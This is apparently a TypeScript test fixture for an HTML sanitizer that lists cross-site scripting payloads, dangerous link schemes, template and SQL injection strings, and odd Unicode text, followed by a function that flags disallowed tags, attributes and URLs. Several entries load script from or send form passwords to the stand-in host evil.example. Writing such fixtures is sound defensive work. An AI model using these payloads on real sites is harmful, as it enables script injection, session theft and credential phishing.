/** What people type who want more than to write: none of it may run, and none may break a page. */
const run = 'alert(1)';
const tags = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src="x" onerror="${run}"`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x:x onerror\n=${run}>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<img src="//evil.example/pixel.gif">`,
  `<img src="/logout">`,
  `<img src="data:image/svg+xml;base64,PHN2Zy8+">`,
  `<img srcset="https://evil.example/a 1x">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<applet code=x></applet>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none}</style>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `<p style="background:url(javascript:${run})">x</p>`,
  `<body onload=${run}>`,
  `<html onmouseover=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>x</select>`,
  `<textarea autofocus onfocus=${run}>x</textarea>`,
  `<video><source onerror=${run}></video>`,
  `<video src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<form action="https://evil.example/"><input name=password><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<isindex action="javascript:${run}">`,
  `<dialog open onclose=${run}>x</dialog>`,
  `<template><script>${run}</script></template>`,
  `<slot onslotchange=${run}>x</slot>`,
  `<portal src="javascript:${run}"></portal>`,
  `<frameset onload=${run}><frame src=x></frameset>`,
  `<p onclick=${run}>x</p>`,
  `<p onpointerrawupdate="${run}">x</p>`,
  `<a onmouseover="${run}">x</a>`,
  `<p id=app class=btn name=cookie>x</p>`,
  `<a id=config href=//evil.example></a>`,
  `<form id=document><input name=cookie></form>`,
  `<title>x</title><plaintext>`,
  `<xmp><script>${run}</script></xmp>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=\`x\`onerror=${run}>`,
  `<a href="https://ok.example/" target="_blank" ping="https://evil.example/">x</a>`,
  `</p></div></article></main></body></html><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus='`,
  `\`\${${run}}\``,
];

const links = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;&#x61;vascript:${run}`,
  `javascript://ok.example/%0a${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD4=`,
  `blob:https://ok.example/1`,
  `file:///etc/passwd`,
  `//evil.example/login`,
  `/\\evil.example/login`,
  `feed:javascript:${run}`,
  `view-source:x`,
  `intent://x#Intent;end`,
].map((href) => `<a href="${href}">x</a>`);

const texts = [
  '\u202egnp.exe',
  '\u2066\u2067\u202d왼쪽',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G',
  '가'.repeat(90),
  'a'.repeat(100),
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{7*7} #{7*7} <%= 7*7 %>',
  "'; drop table post; --",
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  'window.__remixContext = null;</script>',
  '\u2028\u2029alert(1)',
  '\ufeff\u200b\u2060보이지 않는',
  '👨‍👩‍👧‍👦🏳️‍🌈',
];

export const hostilePayloads: readonly string[] = [...tags, ...links, ...texts];

const allowedTags = new Set(
  'A B STRONG I EM U S P BR HR UL OL LI H2 H3 H4 BLOCKQUOTE PRE CODE TABLE THEAD TBODY TR TH TD SPAN DIV IMG'.split(
    ' ',
  ),
);
const allowedAttributes = new Set(
  'href src alt title width height colspan rowspan target rel class'.split(' '),
);

/** What is wrong with printed HTML of a member's: anything that could run, load from elsewhere or look like the page. */
export function faultsIn(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => [
    ...(allowedTags.has(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (!allowedAttributes.has(name)) return [`${element.tagName} ${name}`];
      if (name === 'class') return value === 'emoticon' ? [] : [`class ${value}`];
      if (name === 'href' && !/^(?:https?:|mailto:|tel:|\/(?![/\\])|#)/.test(value)) return [`href ${value}`];
      if (name === 'src' && !/^\/(?:photo|media)\/|^\/emoticons\.svg#/.test(value)) return [`src ${value}`];
      return [];
    }),
  ]);
}
